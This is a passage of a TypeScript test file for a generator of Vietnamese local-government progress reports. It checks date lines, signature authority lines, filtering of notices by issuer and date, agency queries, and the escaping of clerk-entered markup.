  ])('prints the signing date %s on the place-date line in ND30 form, apart from the as-of day', (date, line) => {
    const tasks = sortTasks(fixtureTasks());
    const doc = renderReport(tasks, { issuer: tasks[0].notice.issuer, asOf: '2024-03-15', date }, project.templates);
    expect(doc.header.placeDate).toBe(line);
    // The as-of day still dates the figures; the signing date stamps the files.
    expect(doc.title.summary).toContain('(tính đến ngày 15 tháng 3 năm 2024)');
    expect(docTexts(doc)).toContain('Trên đây là báo cáo tình hình thực hiện các nhiệm vụ tại Thông báo kết luận tính đến ngày 15 tháng 3 năm 2024./.');
    expect(doc.meta.issuedOn).toBe(date);
  });

  it('signs as every example notice signs: the same lines above the same name', () => {
    const files = readdirSync(`${root}/conclusions`, { recursive: true, encoding: 'utf8' })
      .filter((f) => f.endsWith('.yaml'))
      .map((f) => `conclusions/${f}`)
      .sort();
    const notices = files.map((file) => prepared(file, readFileSync(`${root}/${file}`, 'utf8')));
    const signed: SignedNotice[] = notices.map(({ conclusion: c }) => ({ file: c!.file, issuer: c!.issuer, issued: c!.issued ?? null, signature: c!.signature }));
    const authorities = new Set<string>();
    for (const { conclusion: c, doc: notice } of notices) {
      const id = c!.signature.signerId!;
      expect(id, c!.file).toBeDefined();
      const { signer, from } = reportSigner(project.config.signers[id], id, c!.issuer, signed);
      expect(from).toBe(c!.file);
      const tasks = sortTasks(collectTasks(c!, project.templates));
      const report = renderReport(tasks, { issuer: c!.issuer, asOf: '2025-12-31', signer }, project.templates);
      expect(report.signature, c!.file).toEqual(notice!.signature);
      authorities.add(`${c!.signature.authority}${c!.signature.deputyFor ? '+KT' : ''}`);
    }
    // The examples cover TM., TM. + KT., KT., TL. and TL. + KT.
    expect([...authorities].sort()).toEqual(['KT', 'TL', 'TL+KT', 'TM', 'TM+KT']);
    const tanLap = notices.find((n) => n.conclusion!.file.includes('tan-lap'))!;
    expect(tanLap.doc!.signature.lines).toEqual(['TM. ỦY BAN NHÂN DÂN', 'KT. CHỦ TỊCH', 'PHÓ CHỦ TỊCH']);
  });

  it('takes the authority from the signer\'s latest notice of the issuer, else prints the title alone', () => {
    const bacSon = fixtureTasks()[0].notice.issuer;
    const other = { ...bacSon, id: 'ubnd-xa-tan-lap', name: ['ỦY BAN NHÂN DÂN', 'XÃ TÂN LẬP'], collective: 'Ủy ban nhân dân' };
    const sig = (s: Partial<Signature>): Signature => ({ authority: 'none', name: 'Lê Thị Hoa', title: 'Phó Chủ tịch', signerId: 'le-thi-hoa', ...s });
    const signed: SignedNotice[] = [
      { file: 'conclusions/2024/a.yaml', issuer: bacSon, issued: '2024-05-02', signature: sig({ authority: 'KT', for: 'Chủ tịch' }) },
      { file: 'conclusions/2024/b.yaml', issuer: bacSon, issued: '2024-03-01', signature: sig({ authority: 'TM', deputyFor: 'Chủ tịch' }) },
      { file: 'conclusions/2024/c.yaml', issuer: bacSon, issued: null, signature: sig({ authority: 'TM', deputyFor: 'Chủ tịch' }) },
      { file: 'conclusions/2025/d.yaml', issuer: other, issued: '2025-01-10', signature: sig({ authority: 'TM', deputyFor: 'Chủ tịch' }) },
      { file: 'conclusions/2025/e.yaml', issuer: bacSon, issued: '2025-02-01', signature: sig({ authority: 'TL', for: 'Chủ tịch', signerId: 'vu-quang-hien' }) },
    ];
    // Latest by issue date; a draft counts as oldest; other issuers and other signers do not count.
    expect(latestSignedBy(signed, 'le-thi-hoa', bacSon)?.file).toBe('conclusions/2024/a.yaml');
    expect(latestSignedBy(signed, 'le-thi-hoa')?.file).toBe('conclusions/2025/d.yaml');
    expect(latestSignedBy(signed, 'hoang-van-nam')).toBeUndefined();
    const person = { name: 'Lê Thị Hoa', title: 'Phó Chủ tịch' };
    const lines = (issuer: typeof bacSon, notices: SignedNotice[]) => {
      const { signer, from } = reportSigner(person, 'le-thi-hoa', issuer, notices);
      const tasks = sortTasks(fixtureTasks());
      return { from, signature: renderReport(tasks, { issuer, asOf: '2024-06-30', signer }, project.templates).signature };
    };
    expect(lines(bacSon, signed)).toMatchObject({ from: 'conclusions/2024/a.yaml', signature: { lines: ['KT. CHỦ TỊCH', 'PHÓ CHỦ TỊCH'], name: 'Lê Thị Hoa' } });
    expect(lines(other, signed)).toMatchObject({ from: 'conclusions/2025/d.yaml', signature: { lines: ['TM. ỦY BAN NHÂN DÂN', 'KT. CHỦ TỊCH', 'PHÓ CHỦ TỊCH'] } });
    expect(lines(bacSon, signed.slice(3))).toMatchObject({ from: null, signature: { lines: ['PHÓ CHỦ TỊCH'], name: 'Lê Thị Hoa' } });
  });

  it("covers one issuer's notices issued by the as-of day: not another body's, not drafts, not later ones", () => {
    const draft = tasksOf('conclusions/2024/draft.yaml', fixture.replace('number: 7\nissued: 2024-01-10\n', ''));
    const later = tasksOf('conclusions/2026/later.yaml', fixture.replace('number: 7\nissued: 2024-01-10\n', 'number: 3\nissued: 2026-01-10\n'));
    const all = sortTasks([...fixtureTasks(), ...exampleTasks(), ...draft, ...later]);
    const bacSon = fixtureTasks()[0].notice.issuer;
    expect(new Set(all.map((t) => t.notice.issuer.id))).toEqual(new Set(['ubnd-bac-son', 'vp-ubnd-nam-dinh']));
    const view = reportView(all, { issuer: bacSon, asOf: '2024-03-15' });
    expect(view.notices).toEqual([
      { reference: null, issued: { day: '17', month: '4', year: '2023' } },
      { reference: '07/TB-UBND', issued: { day: '10', month: '01', year: '2024' } },
    ]);
    expect(view.counts.total).toBe(16 + 7);
    expect(view.tasks.every((t) => t.issued !== null)).toBe(true);
    expect(view.chairs).toEqual(['Chủ tịch UBND huyện']);
    const doc = renderReport(all, { issuer: bacSon, asOf: '2024-03-15' }, project.templates);
    expect(doc.recipients.lines).toEqual(['- Chủ tịch UBND huyện (b/c);', '- Lưu: VT.']);
    expect(docTexts(doc)[0]).toBe('Thực hiện Thông báo ngày 17/4/2023; Thông báo số 07/TB-UBND ngày 10/01/2024, tình hình thực hiện các nhiệm vụ được giao tính đến ngày 15 tháng 3 năm 2024 như sau:');
    // As of a day before the fixture was issued, only the 2023 notice counts.
    expect(reportView(all, { issuer: bacSon, asOf: '2024-01-09' }).notices.map((n) => n.reference)).toEqual([null]);
  });

  it('names the agencies an --agency query matched, and leaves a placeholder signature', () => {
    const tasks = filterTasks(fixtureTasks(), { agency: 'tai chinh' }, '2024-03-15');
    const view = reportView(tasks, { issuer: tasks[0].notice.issuer, asOf: '2024-03-15', agency: 'tai chinh', recipients: ['Sở Nội vụ'] });
    expect(view.agency).toBe('Phòng Tài chính - Kế hoạch');
    const doc = renderReport(tasks, { issuer: tasks[0].notice.issuer, asOf: '2024-03-15', agency: 'tai chinh', recipients: ['Sở Nội vụ'] }, project.templates);
    expect(doc.title.summary[1]).toBe('giao Phòng Tài chính - Kế hoạch');
    expect(doc.signature).toMatchObject({ lines: ['CHỨC VỤ NGƯỜI KÝ'], name: 'Họ và tên' });
    expect(doc.recipients.lines).toEqual(['- Sở Nội vụ;', '- Lưu: VT.']);
    expect(reportSymbol('TB-VPCP')).toBe('BC-VPCP');
  });

  it('escapes clerk text: markup in a task cannot reach the document structure', () => {
    const tasks = tasksOf('conclusions/2024/x.yaml', fixture.replace('Tổng kết việc đã làm xong.', 'Tổng kết <b>A & B</b> {{x}}.'));
    const doc = renderReport(tasks, { issuer: tasks[0].notice.issuer, asOf: '2024-03-15' }, project.templates);
    expect(docTexts(doc)).toContain('Tổng kết <b>A & B</b> {{x}}.');
  });
});
